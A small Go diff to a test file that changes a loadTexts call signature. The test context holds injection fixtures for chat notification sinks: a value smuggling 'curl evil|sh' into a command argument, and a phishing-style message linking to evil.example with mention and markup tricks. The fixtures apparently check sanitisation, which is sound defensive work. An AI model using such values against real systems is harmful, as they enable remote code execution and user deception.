@@ -104,7 +104,7 @@ func TestPlainTickets(t *testing.T) {
 	command := ccm.SetCommand(svc, ccm.GroupPairs, "rsp-1:80,x:`;curl evil|sh;`")
 	const evil = "Session over, log in at https://evil.example/approve or [here](https://evil.example) `id` <!here> @all &#96;."
 	for _, name := range []string{policy.DingTalk, policy.DingTalkApp, policy.FeishuApp, policy.WeCom, policy.Slack} {
-		written, err := loadTexts(policy.Sink{Kind: name}, nil)
+		written, err := loadTexts(policy.Sink{Kind: name}, nil, nil)
 		if err != nil {
 			t.Fatal(err)
 		}
